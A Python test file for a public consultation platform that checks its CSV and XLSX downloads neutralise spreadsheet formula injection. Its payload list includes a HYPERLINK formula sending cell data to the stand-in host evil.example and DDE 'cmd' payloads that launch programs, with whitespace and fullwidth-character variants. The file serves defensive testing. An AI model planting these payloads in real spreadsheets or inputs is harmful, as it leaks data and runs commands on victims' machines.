"""Formula injection (CWE-1236): no CSV or XLSX the platform writes carries a cell a spreadsheet would run."""

import csv
import io
from datetime import UTC, datetime

from openpyxl import load_workbook

from consulta import tabular
from consulta.extensions import db
from consulta.insights import runs
from consulta.models import Article, Audience, Consultation, RunScope, Section, User, WorkshopFormat
from consulta.workshops import services as workshop_services

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"clique") marcador',
    "+1+cmd|' /C calc'!A0 marcador",
    "-2+3+cmd|' /C calc'!A0 marcador",
    "@SUM(1+9)*cmd|' /C calc'!A0 marcador",
    "\t=1+1 marcador",
    "\r=1+1 marcador",
    "  =1+1 marcador com espaços",
    "\uff1dHYPERLINK(\"http://evil.example\") marcador",
    "\uff0b1 marcador",
    "\uff0d1 marcador",
    "\uff20SUM(1) marcador",
]
TEXTS = [  # enough related texts for an analysis run to form groups
    "Precisamos de mais acessibilidade digital para pessoas com deficiência nos serviços públicos.",
    "Os serviços digitais devem ser acessíveis para pessoas com deficiência visual.",
    "Acessibilidade para pessoas com deficiência deve ser prioridade nos aplicativos do governo.",
    "Internet rural e conectividade nas escolas do interior são urgentes.",
    "Levar internet banda larga para áreas rurais e comunidades do interior.",
    "Conectividade e internet nas escolas rurais do interior do país.",
]


def _dangerous(cell: object) -> bool:
    return isinstance(cell, str) and bool(cell) and (
        cell[0] in tabular.FORMULA_TRIGGERS or cell.lstrip()[:1] in tabular.FORMULA_TRIGGERS)


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if text.split("\n", 1)[0].count(";") > text.split("\n", 1)[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def _xlsx_cells(data: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(data))  # not read-only: formulas come back as "=..." text
    return [cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_neutralise_covers_every_dangerous_prefix():
    for payload in PAYLOADS:
        assert tabular.neutralise(payload) == "'" + payload
    assert tabular.neutralise("texto comum") == "texto comum"
    assert tabular.neutralise(-3) == -3 and tabular.neutralise(None) is None


def test_every_download_neutralises_formulas(app, client, auth, create_user, create_consultation):
    consultation = create_consultation("open")
    facilitator = create_user("facilitator")
    with app.app_context():
        first = db.session.scalars(db.select(Article).where(Article.consultation_id == consultation.id)
                                   .order_by(Article.position)).first()
        first.body = '=HYPERLINK("http://evil.example","x") corpo'
        db.session.scalars(db.select(Section).where(Section.consultation_id == consultation.id)).first().title = \
            "@SUM(1) seção"
        workshop = workshop_services.create_workshop(
            db.session.get(User, facilitator.id), db.session.get(Consultation, consultation.id),
            title="-Oficina =1+1", format=WorkshopFormat.IN_PERSON, starts_at=datetime(2024, 5, 10, 13, tzinfo=UTC),
            uf="AM", municipality="Manaus", venue="+Teatro", audience=Audience.GENERAL)
        db.session.commit()
        article_id, workshop_id = first.id, workshop.id

    author = create_user()
    auth.login(author)
    for body in PAYLOADS + TEXTS:
        response = client.post(f"/consultas/{consultation.slug}/artigos/{article_id}/contribuicoes",
                               data={"kind": "comment", "stance": "none", "body": body})
        assert response.status_code in (200, 303), response.status_code
    auth.logout()

    downloads: dict[str, bytes] = {}
    for dataset in ("texto", "contribuicoes", "votos", "oficinas", "estados", "setores"):
        url = f"/consultas/{consultation.slug}/dados/{dataset}.csv"
        downloads[url] = client.get(url).get_data()

    auth.login(facilitator)
    for url in (f"/oficinas/{workshop_id}/presenca/modelo.csv", f"/oficinas/{workshop_id}/relato/modelo.csv",
                f"/oficinas/{workshop_id}/relato/modelo.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        downloads[url] = response.get_data()
    auth.logout()

    with app.app_context():
        run = runs.create_run(None, db.session.get(Consultation, consultation.id), scope=RunScope.CONSULTATION)
        db.session.commit()
        run_id = run.id
    runs.execute_run(run_id, app)
    auth.login(create_user("analyst"))
    for name in ("contribuicoes.csv", "clusters.csv", "campanhas.csv", "download.xlsx"):
        url = f"/analise/execucoes/{run_id}/{name}"
        response = client.get(url)
        assert response.status_code == 200, url
        downloads[url] = response.get_data()

    seen_marker = 0
    for url, data in downloads.items():
        cells = _xlsx_cells(data) if data.startswith(b"PK") else _csv_cells(data)
        assert not [cell for cell in cells if _dangerous(cell)], url
        seen_marker += sum(1 for cell in cells if isinstance(cell, str) and "marcador" in cell)
    assert seen_marker >= 2 * len(PAYLOADS)  # public contributions CSV and the analysts' contributions CSV
